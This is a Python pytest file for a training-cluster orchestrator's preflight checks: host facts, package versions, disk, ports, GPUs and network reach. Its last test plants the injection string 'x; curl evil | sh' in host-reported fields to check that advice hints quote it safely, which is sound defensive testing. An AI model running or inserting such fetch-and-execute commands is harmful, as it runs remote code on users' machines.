from __future__ import annotations

import ipaddress
import re
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from orchestrator import wire
from orchestrator.checks import Needs, Seen, of_hosts, of_network, of_pairs
from orchestrator.checks.addresses import disturbed, of_addresses
from orchestrator.checks.pings import of_pings
from orchestrator.events import Check, CheckReported, Level, PairReported
from orchestrator.model import EnvironmentPlan, Host, Role

NEEDS = Needs(tensorflow=True, legacy_keras=True)


def seen(name: str = "gpu-01", **changes: Any) -> Seen:
    """A host on which all is well; `changes` replace parts of its answers, by dotted-like names a__b."""
    number = int(name[-2:])
    host = Host(name, name, f"10.0.0.{number}", task_port=2222)
    hello = {
        "protocol": 1,
        "time_ns": 0,
        "state_error": None,
        "user": "train",
        "python": "3.11.2",
        "boot_id": name,
        "netns": "net:[1]",
        "state": "/var/tmp/o-1",
    }
    disk = {"free": 120 * 10**9}
    facts = {
        "python": {"path": "/venv/bin/python", "version": "3.11.2", "ok": True, "error": ""},
        "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
        "r": None,
        "rsync": "/usr/bin/rsync",
        "disk": {"state": disk, "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""}},
        "gpus": [],
        "ephemeral": [32768, 60999],
        "kill_user_processes": False,
        "ip": ["127.0.0.1", f"10.0.0.{number}"],
    }
    listen: dict[str, Any] = {"listening": [2222], "busy": []}
    one = Seen(
        host,
        (2222,),
        wire.read(hello, wire.Hello, "hello"),
        wire.read(facts, wire.MachineFacts, "facts"),
        wire.read(listen, wire.Listening, "listen"),
    )
    return changed(one, **changes)


def changed(one: Seen, **changes: Any) -> Seen:
    """`facts__disk__state=None` replaces seen.facts["disk"]["state"]; `host__devices=...` a field."""
    for path, value in changes.items():
        first, *keys = path.split("__")
        part = getattr(one, first)
        if first == "host":
            part = replace(part, **{keys[0]: value})
        else:
            known = msgspec.to_builtins(part)
            part = wire.read(_with(known, keys, value) if keys else value, type(part), path)
        one = replace(one, **{first: part})
    return one


def _with(part: Any, keys: list[str], value: Any) -> Any:
    return {**part, keys[0]: _with(part[keys[0]], keys[1:], value) if keys[1:] else value}


def said(checks: list[CheckReported], level: Level) -> list[tuple[str, str, str]]:
    return [(check.host, check.check, check.found) for check in checks if check.level is level]


def test_a_setup_may_be_what_fails() -> None:
    dead = {"path": None, "version": None, "ok": False, "error": "it said nothing and ended with 3"}
    needs = Needs(tensorflow=True, legacy_keras=True, setup=True)
    (found,) = [one for one in of_hosts([seen(facts__python=dead)], needs) if one.check is Check.PYTHON]
    assert found.found == "python3 does not run behind the `setup` of [job]"
    assert found.hint.startswith("run that `setup` there, in `bash -l`; or set `python`")


def test_a_good_host_is_well_in_every_way() -> None:
    checks = of_hosts([seen()], NEEDS)
    assert [(check.check, check.found) for check in checks] == [
        ("login", "train"),
        ("agent", "3.11.2"),
        ("python", "3.11.2"),
        ("tensorflow", "2.21.0"),
        ("tf_keras", "2.21.0"),
        ("rsync", "ok"),
        ("state", "ok"),
        ("workdir", "ok"),
        ("disk", "120 GB free"),
        ("clock", "+0 ms"),
        ("port", "2222"),
    ]
    assert {check.level for check in checks} == {Level.OK}


W, F = Level.WARN, Level.FAIL
GPUS = [{"index": i, "name": "A100", "memory": 80 << 30} for i in range(2)]
STATE_ERROR = {"kind": "state", "what": "the state folder is on NFS", "why": "no locks", "hint": ""}
LEASE = {"run": "tidy-otter", "task": "worker/0", "owner": "ann@laptop", "since": 1.0}
SMALL = {"free": 4 * 10**9}

# (what the host says; the check, its level and what was found; a part of why, a part of the hint)
ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
    ({"hello__python": "3.7.3"}, ("agent", F, "Python 3.7.3"), "3.8 or newer", "agent_python"),
    (
        {"facts__python": {"path": None, "version": None, "ok": False, "error": "/x/python: No such file"}},
        ("python", F, "python3 does not run"),
        "No such file",
        "`python`",
    ),
    (
        {"facts__packages": {}},
        ("tensorflow", F, "not installed"),
        "/venv/bin/python does not have it",
        "`/venv/bin/python -m pip install tensorflow`; or set `python`",
    ),
    (
        {"facts__packages": {}, "facts__python__managed": True},
        ("tensorflow", F, "not installed"),
        "/venv/bin/python does not have it",
        "add a table [env] to hosts.toml, then `orchestrate setup`",
    ),
    (
        {
            "facts__packages__tf-keras": None,
            "facts__python__managed": True,
            "host__python": "/usr/bin/python3",
        },
        ("tf_keras", F, "not installed"),
        "Keras 2",
        "leave `python` out, add a table [env] to hosts.toml, then `orchestrate setup`",
    ),
    (
        {"facts__packages__tf-keras": None},
        ("tf_keras", F, "not installed"),
        "Keras 2",
        "--no-deps 'tf_keras==2.21.*'",
    ),
    (
        {"facts__packages__tf-keras": "2.20.1"},
        ("tf_keras", F, "2.20.1 beside tensorflow 2.21.0"),
        "must match",
        "tf_keras==2.21.*",
    ),
    ({"facts__rsync": None}, ("rsync", W, "not installed"), "is sent whole", "apt install rsync"),
    (
        {"hello__state_error": STATE_ERROR},
        ("state", F, "cannot be used"),
        "the host says: the state folder is on NFS\nno locks",
        "`state`",
    ),
    (
        {"facts__disk__workdir__writable": False, "facts__disk__workdir__error": "Read-only file system"},
        ("workdir", F, "/home/t/o cannot be written"),
        "Read-only file system",
        "`workdir`",
    ),
    (
        {"facts__disk__workdir__free": 4_900_000_000},
        ("disk", W, "4.9 GB free"),
        "/home/t/o needs room",
        "`workdir`",
    ),
    ({"facts__disk__workdir__free": 199_000_000}, ("disk", F, "199 MB free"), "checkpoints", "`workdir`"),
    # Both on one disk: the logs, of which nothing has to stay, are the easier ones to move.
    (
        {"facts__disk__workdir__free": SMALL["free"], "facts__disk__state": SMALL},
        ("disk", W, "4.0 GB free"),
        "logs",
        "`state`",
    ),
    (
        {"facts__disk__state": SMALL},
        ("disk", W, "4.0 GB free"),
        "/var/tmp/o-1 needs room for the tasks' logs",
        "`state`",
    ),
    ({"clock": 1.4}, ("clock", W, "1.4 s ahead"), "", "set-ntp"),
    ({"clock": -7200.0}, ("clock", W, "2 h 00 min behind"), "", "set-ntp"),
    (
        {"listen__busy": [{"port": 2222, "holder": "python3 pid 4242 (user bob)"}]},
        ("port", F, "2222 taken"),
        "2222: python3 pid 4242 (user bob)",
        "`task_port`",
    ),
    (
        {"listen__busy": [{"port": 2222, "holder": LEASE}]},
        ("port", F, "2222 taken"),
        "run tidy-otter (ann@laptop) holds it",
        "`task_port`",
    ),
    (
        {"listen__busy": [{"port": 2222, "holder": None}]},
        ("port", F, "2222 taken"),
        "may not see",
        "`task_port`",
    ),
    ({"ports": (40000,)}, ("port", W, "40000"), "32768 to 60999", "ip_local_reserved_ports=40000"),
    (
        {"facts__kill_user_processes": True},
        ("linger", W, "off"),
        "KillUserProcesses",
        "loginctl enable-linger train",
    ),
    ({"host__devices": ("0",)}, ("gpu", F, "none seen"), "nvidia-smi", "`devices`"),
    (
        {"host__devices": ("0", "3", "GPU-ab"), "facts__gpus": GPUS},
        ("gpu", F, "no GPU 3"),
        "has 0, 1",
        "`devices`",
    ),
    (
        {"host__address": "203.0.114.7"},
        ("exposure", W, "203.0.114.7 is a public address"),
        "no authentication",
        "firewall",
    ),
    ({"facts__ip": ["10.0.0.1", "8.8.8.8"]}, ("exposure", W, "8.8.8.8 is a public address"), "", ""),
]


@pytest.mark.parametrize(("changes", "expected", "why", "hint"), ALONE)
def test_what_is_wrong_with_a_host_is_said(
    changes: dict[str, Any], expected: tuple[str, Level, str], why: str, hint: str
) -> None:
    bad = [one for one in of_hosts([seen(**changes)], NEEDS) if one.level is not Level.OK]
    assert [(one.check, one.level, one.found) for one in bad] == [expected]
    assert why in bad[0].why
    assert hint in bad[0].hint


FINE: list[dict[str, Any]] = [
    {"facts__packages": {"tensorflow-cpu": "2.21.0", "tf-keras": "2.21.3"}},
    {"facts__packages": {"tensorflow": "2.15.1", "keras": "2.15.0"}},  # Keras 2 inside
    {"facts__packages": {"tensorflow": "2.9.0"}},
    {"hello__python": "3.8.18"},
    {"facts__disk__state": None, "clock": -0.9},
    {"host__devices": ("0", "1"), "facts__gpus": GPUS},
    {"facts__ip": ["127.0.0.1", "172.17.0.4", "2a02::1", "fe80::1%eth0"]},
    {"host__address": "node-1.example.org"},
    {"facts__kill_user_processes": None},
]


@pytest.mark.parametrize("changes", FINE)
def test_nothing_is_said_of_what_is_well(changes: dict[str, Any]) -> None:
    assert {one.level for one in of_hosts([seen(**changes)], NEEDS)} == {Level.OK}


def test_a_job_that_is_no_python_needs_no_tensorflow() -> None:
    checks = of_hosts([seen(facts__packages={})], Needs(tensorflow=False, legacy_keras=False))
    assert said(checks, W) == [("gpu-01", "tensorflow", "not installed")]
    assert not said(checks, F)


MADE = EnvironmentPlan("6bce2a2ce683ac26")


def made(name: str = "gpu-01", **changes: Any) -> Seen:
    """A host that trains in the environment of [env]."""
    python = f"envs/{MADE.name}/bin/python"
    known = {"host__python": f"{Host.workdir}/{python}", "facts__python__path": f"/home/t/o/{python}"}
    return seen(name, **known, **changes)


def test_an_environment_that_is_not_there_yet_is_made_by_setup() -> None:
    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
    python = {"path": None, "version": None, "ok": False, "error": "No such file or directory"}
    missing = changed(made(), facts__python=python, facts__packages={})
    assert [one.hint for one in of_hosts([missing], needs) if one.check == "python"] == [
        "`orchestrate setup`"
    ]


def test_another_python_in_an_environment_of_ours_is_asked_for_under_env() -> None:
    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE, python=12, python_at="train.py: x")
    hosts = [made("gpu-01"), made("gpu-02", facts__python__version="3.12.1"), made("gpu-03")]
    hints = [one.hint for one in of_hosts(hosts, needs) if one.check == "python" and one.hint]
    assert hints == [
        'set `python = "3.12"` under [env], then `orchestrate setup`, or write that for the older one',
        'set `python = "3.12"` under [env], then `orchestrate setup`, or write that for the older one',
        'set `python = "3.11"` under [env], then `orchestrate setup`',
    ]


def failing(module: dict[str, str]) -> wire.Imported:
    """The imports of a process that ended at this module."""
    rest: dict[str, Any] = {
        "limits": {},
        "gpus": None,
        "threads": None,
        "importing": "",
        "ended": "",
        "signal": None,
    }
    return wire.read({"modules": [module], **rest}, wire.Imported, "imports")


@pytest.mark.parametrize(
    ("module", "error", "there", "hint"),
    [
        ("numpy", "No module named 'numpy'", None, "add numpy to the `packages` of [env]"),
        (
            "tensorflow_datasets",
            "No module named 'importlib_resources'",
            None,
            "add importlib_resources to the",
        ),
        ("google.protobuf", "No module named 'google'", None, "add protobuf to the `packages` of [env]"),
        ("numpy", "No module named 'numpy'", "2.4.6", "rm -rf /home/t/o/envs/6bce2a2ce683ac26`, then"),
        ("numpy", "No module named 'numpy._core'", "2.4.6", "rm -rf /home/t/o/envs/6bce2a2ce683ac26`, then"),
    ],
)
def test_what_env_does_not_name_is_added_there_and_what_is_damaged_is_made_anew(
    module: str, error: str, there: str | None, hint: str
) -> None:
    """An environment that lacks a package is what [env] says: made anew it would lack it again."""
    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
    broken = {"name": module, "version": "", "error": f"ModuleNotFoundError: {error}"}
    one = replace(made(facts__packages__numpy=there), imported=failing(broken))
    (check,) = (found for found in of_hosts([one], needs) if found.check == "import")
    assert hint in check.hint
    assert bool(check.fix) == ("rm" in hint)


@pytest.mark.parametrize("python", ["~/miniconda3/envs/train/bin/python", "/srv/envs/train/bin/python"])
def test_a_python_of_the_users_own_beside_env_is_never_removed(python: str) -> None:
    """conda keeps its environments in a folder `envs`, too."""
    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
    broken = {"name": "tensorflow", "version": "", "error": "ImportError: libcudart.so.12"}
    path = python.replace("~", "/home/t")
    own = replace(seen(host__python=python, facts__python__path=path), imported=failing(broken))
    (check,) = (one for one in of_hosts([own], needs) if one.check == "import")
    assert "rm" not in check.fix
    assert "pip" in check.hint
    missing = changed(replace(own, imported=None), facts__packages={})
    (check,) = (one for one in of_hosts([missing], needs) if one.check == "tensorflow")
    assert f"`{path} -m pip install tensorflow`" in check.hint


def test_tensorflow_that_env_does_not_name_is_to_be_added_there() -> None:
    """The environment is there, made of what [env] says: `orchestrate setup` alone has nothing to do."""
    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
    (check,) = (one for one in of_hosts([made(facts__packages={})], needs) if one.level is F)
    assert check.check == "tensorflow"
    assert check.hint == "add tensorflow to the `packages` of [env], then `orchestrate setup`"
    assert check.fix == ()


VERSIONS: list[tuple[dict[str, Any], Level, str, str]] = [
    (
        {"facts__packages__tensorflow": "2.20.0", "facts__packages__tf-keras": "2.20.0"},
        F,
        "tensorflow",
        "2.20.0",
    ),
    ({"facts__packages__tensorflow": "2.21.1"}, W, "tensorflow", "2.21.1"),
    ({"facts__python__version": "3.10.4"}, W, "python", "3.10.4"),
]


@pytest.mark.parametrize(("changes", "level", "check", "found"), VERSIONS)
def test_the_odd_ones_are_named(changes: dict[str, Any], level: Level, check: str, found: str) -> None:
    cluster = [seen("gpu-01"), seen("gpu-02", **changes), seen("gpu-03")]
    checks = of_hosts(cluster, NEEDS)
    assert ("gpu-02", check, found) in said(checks, level)
    assert {host for host, _, _ in said(checks, W) + said(checks, F)} == {"gpu-02"}
    odd = next(one for one in checks if one.host == "gpu-02" and one.check == check and one.level is level)
    assert "gpu-[01,03]" in odd.why


def test_a_python_that_is_too_old_for_the_programs_grammar() -> None:
    needs = Needs(tensorflow=True, legacy_keras=True, python=12, python_at="train.py: type parameters")
    (found,) = [one for one in of_hosts([seen("gpu-01")], needs) if one.check == "python"]
    assert (found.level, found.found.partition(" ")[2]) == (F, "cannot compile train.py: type parameters")
    assert found.why == "its grammar needs Python 3.12 or newer"
    good = Needs(tensorflow=True, legacy_keras=True, python=9, python_at="train.py: x")
    assert not [one for one in of_hosts([seen("gpu-01")], good) if one.level is F]


def test_another_patch_level_of_python_is_no_matter() -> None:
    cluster = [seen("gpu-01"), seen("gpu-02", facts__python__version="3.11.9")]
    assert {one.level for one in of_hosts(cluster, NEEDS)} == {Level.OK}


def test_one_machine_under_two_names_needs_two_ports() -> None:
    first, twin = seen("gpu-01"), seen("gpu-02", hello__boot_id="gpu-01")
    busy = changed(twin, listen__busy=[{"port": 2222, "holder": "python3 pid 1"}])
    assert said(of_hosts([first, busy], NEEDS), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
    apart = of_hosts([first, changed(twin, ports=(2223,))], NEEDS)
    assert ("gpu-02", "machine", "same as gpu-01") in said(apart, Level.OK)
    contained = changed(twin, hello__netns="net:[2]")
    assert not [one for one in of_hosts([first, contained], NEEDS) if one.check == "machine"]


def test_one_machine_under_two_names_needs_two_state_folders() -> None:
    first = seen("gpu-01", hello__state_place="1:2")
    twin = seen("gpu-02", hello__boot_id="gpu-01", hello__state_place="1:2", ports=(2223,))
    (failed,) = [one for one in of_hosts([first, twin], NEEDS) if one.level is F]
    assert (failed.host, failed.check, failed.found) == ("gpu-02", "state", "is that of gpu-01 too")
    assert failed.hint == 'write state = "/var/tmp/orchestrate-gpu-02" for it in hosts.toml'
    unknown = [changed(one, hello__boot_id="") for one in (first, twin)]
    assert ("gpu-02", "state", "is that of gpu-01 too") not in said(of_hosts(unknown, NEEDS), F)
    for apart in ({"hello__state_place": "1:3"}, {"hello__boot_id": "gpu-02"}, {"hello__state_place": ""}):
        assert not said(of_hosts([first, changed(twin, **apart)], NEEDS), F)


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "localhost", "ip6-localhost", "node1.localhost"])
def test_loopback_is_wrong_only_between_machines(address: str) -> None:
    first, other = seen("gpu-01", host__address=address), seen("gpu-02")
    checks = of_hosts([first, other], NEEDS)
    assert said(checks, F) == [("gpu-01", "address", f"{address} is a loopback address")]
    assert "such as 10.0.0.1" in next(one.hint for one in checks if one.check == "address")
    assert not said(of_hosts([first, changed(other, hello__boot_id="gpu-01", ports=(2223,))], NEEDS), F)


def test_unequal_gpus_are_said_of_the_odd_one() -> None:
    cluster = [seen(name, facts__gpus=GPUS) for name in ("gpu-01", "gpu-02")]
    cluster += [seen("gpu-03", facts__gpus=GPUS[:1]), seen("cpu-04", host__role=Role.PS)]
    assert said(of_hosts(cluster, NEEDS), W) == [("gpu-03", "devices", "1 GPU per task")]
    halves = changed(cluster[0], host__tasks=2)
    assert said(of_hosts([halves, cluster[2]], NEEDS), W) == []


def test_a_shared_home_is_a_note() -> None:
    cluster = [seen("gpu-01"), seen("gpu-02"), seen("gpu-03")]
    checks = of_hosts(cluster, NEEDS, (("gpu-01", "gpu-02"), ("gpu-03",)))
    assert [(one.host, one.found) for one in checks if one.check == "shared"] == [
        ("gpu-01", "workdir of gpu-[01-02]"),
        ("gpu-02", "workdir of gpu-[01-02]"),
    ]


def mesh(*hosts: str, **bad: str) -> list[PairReported]:
    """All pairs, well but for `a_b="timed out"`: a does not reach b; `a_ALL`, `ALL_b`, ping_ALL likewise."""
    pairs = []
    for source in hosts:
        for target in hosts:
            mesh_wide = bad.get(f"{source}_ALL") if source != target else None
            inward = bad.get(f"ALL_{target}") if source != target else None
            why = bad.get(f"{source}_{target}") or mesh_wide or inward or ""
            ping = {"no": False, "unknown": None}.get(bad.get("ping", ""), True)
            port = f"10.0.0.{ord(target) - 96}:2222"
            pairs.append(PairReported(source, target, port, not why, None if why else 0.3, ping, None, why))
    return pairs


REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
    (mesh("a", "b", "c"), [], "", ""),
    (
        mesh("a", "b", "c", a_b="timed out"),
        [("b", "a cannot reach its task port 2222: timed out")],
        "a firewall",
        "open TCP port 2222 there: `ufw allow 2222/tcp`",
    ),
    (
        mesh("a", "b", "c", ALL_b="refused"),
        [("b", "no other host reaches its task port 2222: refused")],
        "our agent listens",
        "`address`",
    ),
    (
        mesh("a", "b", "c", "d", c_ALL="no route"),
        [("c", "reaches no other host: no route")],
        "the others reach each other",
        "outgoing",
    ),
    (
        mesh("a", "b", a_ALL="timed out", b_ALL="timed out"),
        [
            ("a", "the two do not reach each other: timed out"),
            ("b", "the two do not reach each other: timed out"),
        ],
        "a firewall",
        "on both",
    ),
    (
        mesh("a", "b", "c", b_b="timed out"),
        [("b", "cannot reach its own address 10.0.0.2:2222: timed out")],
        "NAT",
        "itself included",
    ),
    (
        mesh("a", "b", "c", a_c="does not resolve", b_c="does not resolve"),
        [("c", "no other host reaches its task port 2222: does not resolve")],
        "that name is not known",
        "/etc/hosts",
    ),
    (
        mesh("a", "b", "c", "d", a_b="answered by something else", c_b="timed out"),
        [
            ("b", "a cannot reach its task port 2222: answered by something else"),
            ("b", "c cannot reach its task port 2222: timed out"),
        ],
        "another program",
        "`address`",
    ),
    (
        mesh("a", "b", a_b="a new reason"),
        [("b", "a cannot reach its task port 2222: a new reason")],
        "",
        "firewall",
    ),
]


@pytest.mark.parametrize(("pairs", "failures", "why", "hint"), REACH)
def test_pairs_are_concluded_to_the_host_to_mend(
    pairs: list[PairReported], failures: list[tuple[str, str]], why: str, hint: str
) -> None:
    checks = of_pairs(pairs)
    failed = [check for check in checks if check.level is Level.FAIL]
    assert sorted((check.host, check.found) for check in failed) == sorted(failures)
    assert all(check.check == "reach" for check in failed)
    if failed:
        assert why in failed[0].why
        assert hint in failed[0].hint
    fine = {check.host for check in checks if check.check == "reach" and check.level is Level.OK}
    assert fine == {pair.target for pair in pairs} - {host for host, _ in failures}


@pytest.mark.parametrize(
    ("ping", "level", "found"),
    [("", Level.OK, "ok"), ("no", Level.WARN, "no answer to ping"), ("unknown", Level.OK, "not measured")],
)
def test_a_missing_ping_is_no_failure(ping: str, level: Level, found: str) -> None:
    checks = list(of_pings(["a", "b"], mesh("a", "b", ping=ping)))
    assert [(check.host, check.level, check.found) for check in checks] == [
        ("a", level, found),
        ("b", level, found),
    ]


def test_no_pairs_no_conclusions() -> None:
    assert of_pairs([]) == []


R = replace(NEEDS, r=True)
DEBIAN = {"version": "4.2.2", "reticulate": "1.28", "jsonlite": "1.8.4", "error": ""}


@pytest.mark.parametrize(
    ("r", "numpy", "level", "found"),
    [
        (DEBIAN, "1.26.4", Level.OK, "1.26.4"),
        (DEBIAN, "2.0.0rc1", Level.WARN, "2.0.0rc1 beside reticulate 1.28"),
        ({**DEBIAN, "reticulate": "1.37.0"}, "2.4.6", Level.WARN, "2.4.6 beside reticulate 1.37.0"),
        ({**DEBIAN, "reticulate": "1.38.0"}, "2.4.6", Level.OK, "2.4.6"),
    ],
)
def test_r_and_the_numpy_it_can_talk_to(r: dict[str, Any], numpy: str, level: Level, found: str) -> None:
    checks = of_hosts([seen(facts__r=r, facts__packages__numpy=numpy)], R)
    assert ("gpu-01", "r", f"4.2.2, reticulate {r['reticulate']}, jsonlite 1.8.4") in said(checks, Level.OK)
    (about,) = [check for check in checks if check.check == "numpy"]
    assert (about.level, about.found) == (level, found)
    assert bool(about.hint) == (level is Level.WARN)


def test_a_host_without_r_or_without_reticulate() -> None:
    absent = {
        "version": None,
        "reticulate": None,
        "jsonlite": None,
        "error": "Rscript: No such file or directory",
    }
    half = {**DEBIAN, "reticulate": None}
    checks = of_hosts([seen(facts__r=absent), seen("gpu-02", facts__r=half)], R)
    assert said(checks, Level.FAIL) == [
        ("gpu-01", "r", "Rscript does not run"),
        ("gpu-02", "r", "4.2.2 without reticulate"),
    ]


def test_r_without_jsonlite_is_said() -> None:
    checks = of_hosts([seen(facts__r={**DEBIAN, "jsonlite": None})], R)
    assert ("gpu-01", "r", "4.2.2, reticulate 1.28, without jsonlite") in said(checks, Level.WARN)


def test_r_is_looked_at_for_r_alone() -> None:
    assert not {"r", "numpy"} & {check.check for check in of_hosts([seen()], NEEDS)}


def test_whether_a_host_alone_or_also_another_may_be_the_cause() -> None:
    """A package that is missing is that host's own fault, another version than elsewhere need not be."""
    missing = of_hosts([seen(facts__packages__tensorflow=None), seen("gpu-02")], NEEDS)
    keras = Needs(tensorflow=True, legacy_keras=False)
    other = of_hosts([seen(facts__packages__tensorflow="2.20.0"), seen("gpu-02"), seen("gpu-03")], keras)
    apart = of_pairs(
        [PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", False, None, None, None, "timed out")]
    )

    def failed(checks: list[CheckReported]) -> list[tuple[str, bool]]:
        return [(check.check, check.between) for check in checks if check.level is Level.FAIL]

    assert failed(missing) == [("tensorflow", False)]
    assert failed(other) == [("tensorflow", True)]
    assert failed(apart) == [("reach", True)]


@pytest.mark.parametrize(
    ("package", "version", "check"),
    [
        ("tensorflow", "2.20.0", "tensorflow"),
        ("keras", "2.9.0", "keras"),
        ("numpy", "1.26.4", "numpy"),
        ("protobuf", "5.1.0", "protobuf"),
        ("tensorflow-datasets", "4.1.0", "tensorflow_datasets"),
    ],
)
def test_a_version_that_is_another_than_elsewhere_has_a_check_of_its_own(
    package: str, version: str, check: str
) -> None:
    packages = {"tensorflow": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6", "protobuf": "6.33.0"}
    packages["tensorflow-datasets"] = "4.9.9"
    hosts = [seen(f"gpu-0{number}", facts__packages=packages) for number in (2, 3)]
    odd = seen("gpu-01", facts__packages={**packages, package: version})
    found = of_hosts([odd, *hosts], Needs(tensorflow=True, legacy_keras=False))
    assert {(one.host, one.check) for one in found if "the usual version here" in one.why} == {
        ("gpu-01", check)
    }


def test_an_address_is_read_once_however_many_hosts_have_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """Sixty hosts with twenty addresses each cost a second when every question read all of them again."""
    read: list[str] = []
    real = ipaddress.ip_address

    def counted(text: str) -> Any:
        read.append(text)
        return real(text)

    monkeypatch.setattr(ipaddress, "ip_address", counted)
    bridges = [{"name": f"br{number}", "ip": f"172.29.{number}.1"} for number in range(20)]
    hosts = [
        seen(f"gpu-{n:02}", facts__interfaces=[{"name": "eth0", "ip": f"10.0.0.{n}"}, *bridges])
        for n in range(1, 61)
    ]
    pairs = [
        PairReported(one.name, other.name, f"{other.host.address}:2222", True, 0.3, True, 0.2, "")
        for one in hosts
        for other in hosts
    ]
    pairs = [msgspec.structs.replace(pair, resolved=pair.address.partition(":")[0]) for pair in pairs]
    found = list(of_addresses(hosts, pairs))
    assert {(check.check, check.level, check.found) for check in found} == {("address", Level.OK, "eth0")}
    assert not disturbed(hosts, pairs)
    assert len(read) <= 60 + len(bridges)


EVIL = "x; curl evil | sh"
MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]


@pytest.mark.parametrize(
    "changes",
    [
        {
            "facts__python": {"path": EVIL, "version": "3.11.2", "ok": True, "error": ""},
            "facts__packages": {},
        },
        {"hello__user": EVIL, "facts__kill_user_processes": True},
        {"hello__state_error": {"what": "x", "hint": EVIL}},
        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": EVIL}]},
        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.7"}]},
        {"host__address": "localhost", "facts__ip": [f"8.8.8.8%{EVIL}", EVIL]},
        {"facts__gpus": GPUS, "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
    ],
)
def test_what_a_host_says_never_stands_bare_in_what_we_advise(changes: dict[str, Any]) -> None:
    """Whoever copies the line after `try:` runs it on a machine of theirs."""
    two = [seen("gpu-01", **changes), seen("gpu-02")]
    address = two[0].host.address
    pairs = [
        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, None, "refused", address),
        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, True, 0.1, "", "10.0.0.2"),
        PairReported("gpu-01", "gpu-01", f"{address}:2222", True, 0.1, True, 0.1, "", address),
    ]
    checks = [*of_hosts(two, NEEDS), *of_network(two, pairs)]
    assert any(check.level is not Level.OK for check in checks)
    hints = [check.hint for check in checks if "evil" in check.hint]
    assert all("curl" not in re.sub(r"'[^']*'", "", hint) for hint in hints), hints
